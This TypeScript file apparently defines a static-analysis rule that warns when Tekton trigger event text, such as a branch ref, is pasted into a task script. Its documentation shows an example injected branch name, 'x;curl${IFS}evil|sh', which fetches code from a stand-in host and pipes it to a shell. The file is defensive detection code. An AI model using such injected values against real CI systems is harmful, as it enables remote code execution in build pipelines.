import { bindingExpressions } from '../../../analysis/binding-expressions';
import { Callees } from '../../../analysis/callee';
import type { DocumentSet, SetDocument } from '../../../analysis/document-set';
import { EventTexts } from '../../../analysis/event-text';
import { scriptsReached, type Hop, type ReachedScript, type Spot } from '../../../analysis/payload-ways';
import { waysTo } from '../../../analysis/trigger-ways';
import type { AnyBinding, AnyTemplate, AnyTriggerTemplateSpec, Fields } from '../../../analysis/wire';
import { quote } from '../../../util/quote';
import { rememberByObject } from '../../../util/remember';
import { embeddedRuns } from '../../engine/embedded-runs';
import { defineRule } from '../../engine/rule';
import { build, set, triggers } from '../example';

const template = triggers(
  'TriggerTemplate',
  `params:
  - name: ref
resourcetemplates:
  - apiVersion: tekton.dev/v1
    kind: TaskRun
    metadata: { generateName: build- }
    spec:
      taskRef: { name: build }
      params:
        - { name: path, value: $(tt.params.ref) }`,
);
const trigger = (value: string): string =>
  triggers('Trigger', `bindings:\n  - { name: ref, value: ${value} }\ntemplate: { ref: example }`);
const task = build('params:\n  - name: path');

/** One value that a binding gives. */
interface BoundValue {
  readonly name: string;
  readonly value: string;
  /** Of the trigger. */
  readonly path: string;
  /** Where the value stands, if that is another document. */
  readonly from: SetDocument | undefined;
}

export const payloadInScript = defineRule({
  id: 'payload-in-script',
  severity: 'warning',
  docs: {
    title: 'Text of an event is pasted into a script',
    why: 'Whoever may push a branch, open a pull request or write a comment chooses that text. A branch may be called `x;curl${IFS}evil|sh`: what stands in the script is run, with all that the task may do. A signature says that the event comes from the forge, and nothing of what people wrote.',
    bad: set(task, template, trigger('$(body.ref)')),
    good: set(task, template, trigger('$(body.after)')),
  },
  messages: {
    pasted: (d: { value: string; what: string }) =>
      `${quote(d.value)} of the event becomes part of the script of ${d.what}`,
  },
  visit: ({ report, set, namespace, placeOf, placeIn }) => {
    let home: { readonly name: string; readonly labels: Fields } = { name: '', labels: {} };
    return {
      Document({ metadata = {} }) {
        const { name, labels } = metadata as { readonly name?: string; readonly labels?: Fields };
        home = { name: name ?? '', labels: labels ?? {} };
      },
      Trigger({ trigger: { bindings = [], template = {}, interceptors = [] }, path, ofListener }) {
        const runs = runsOf(template, `${path}.template`, set(), namespace());
        if (runs.length === 0) return;
        const values = boundValues(bindings, `${path}.bindings`, set(), namespace()).filter(({ value }) =>
          value.includes('$('),
        );
        const own = interceptors.filter((one) => one !== null);
        const ways = ofListener ? [] : waysTo({ ...home, namespace: namespace() }, set());
        const before = ways.length === 0 ? [[]] : different(ways.map((way) => way.interceptors));
        let texts: readonly EventTexts[] | undefined;
        for (const { name, value, path: at, from } of values) {
          const reached = runs.flatMap(({ run, spot }) => {
            const { metadata } = run as { readonly metadata?: { readonly namespace?: string } };
            return scriptsReached(name, run, spot, new Callees(set(), metadata?.namespace ?? namespace()));
          });
          const [first, ...others] = reached;
          if (!first) continue;
          // The way through CEL is looked at last: its library takes time to load.
          texts ??= before.map((group) => new EventTexts([...group, ...own]));
          const open = bindingExpressions(value).find((one) => texts?.some((text) => text.isAnyText(one)));
          if (open === undefined) continue;
          const placed = ({ note, at: { document, path: field } }: Hop) => ({
            note,
            at: document ? placeIn(document, field) : placeOf(field),
          });
          report(
            'pasted',
            { value: `$(${open})`, what: first.what },
            {
              path: at,
              text: from ? undefined : `$(${open})`,
              related: [
                ...(from
                  ? [
                      {
                        note: `${from.kind} ${quote(from.name)} takes it from the event`,
                        at: placeIn(from, 'spec.params'),
                      },
                    ]
                  : []),
                ...first.hops.map(placed),
                ...others.flatMap(({ hops }) => hops.slice(-1).map(placed)),
              ],
              help: helpFor(first, open),
            },
          );
        }
      },
    };
  },
});

function helpFor({ variable, param = 'VALUE', evaluated }: ReachedScript, open: string): string[] {
  const filter = `or let one form of it through: a filter of the cel interceptor such as ${celOf(open)}.matches('^[A-Za-z0-9/._-]+$')`;
  if (evaluated !== undefined)
    return [`hand "$${evaluated}" to a command as an argument, without eval and sh -c`, filter];
  const name = param.toUpperCase().replace(/\W/g, '_');
  return [
    `pass it to the script as data: env: [{ name: ${name}, value: ${variable} }], and "$${name}" in the script`,
    filter,
  ];
}

/** Listeners of a kind look at events in the same way. */
function different<T extends object>(all: readonly T[]): T[] {
  return [...new Map(all.map((one) => [asText(one), one])).values()];
}

const asText = rememberByObject((one: object) => JSON.stringify(one));

/** What CEL calls a value that a binding calls `header.Content-Type`. */
function celOf(expression: string): string {
  const [, header] = /^header\.([\w-]+)$/.exec(expression) ?? [];
  return header === undefined ? expression : `header.canonical('${header}')`;
}

/** The runs that a template makes, with where they stand. */
function runsOf(
  template: AnyTemplate,
  path: string,
  set: DocumentSet,
  namespace: string,
): { readonly run: ReturnType<typeof embeddedRuns>[number]['document']; readonly spot: Spot }[] {
  const found = template.spec ? undefined : set.find('TriggerTemplate', namespace, template.ref ?? '');
  const spec = template.spec ?? (found?.readable ? (found.content['spec'] as AnyTriggerTemplateSpec) : undefined);
  if (!spec) return [];
  const runs = embeddedRuns({ apiVersion: '', kind: 'TriggerTemplate', spec });
  return runs.map(({ document, path: at }) => ({
    run: document,
    spot: { document: found, path: found ? at : at.replace(/^spec/, `${path}.spec`) },
  }));
}

/** What the bindings of a trigger give, as far as they are in the set. */
function boundValues(
  bindings: readonly (AnyBinding | null)[],
  path: string,
  set: DocumentSet,
  namespace: string,
): BoundValue[] {
  return bindings.flatMap((one, i): BoundValue[] => {
    const { name = '', value = '', ref = '', kind = 'TriggerBinding' } = one ?? {};
    const at = `${path}[${i}]`;
    if (ref === '') return [{ name, value, path: `${at}.value`, from: undefined }];
    const found = set.find(kind, kind === 'TriggerBinding' ? namespace : '', ref);
    if (!found?.readable) return [];
    const { params = [] } = (found.content['spec'] ?? {}) as { readonly params?: readonly AnyBinding[] };
    return params.map((param) => ({
      name: param.name ?? '',
      value: param.value ?? '',
      path: `${at}.ref`,
      from: found,
    }));
  });
}
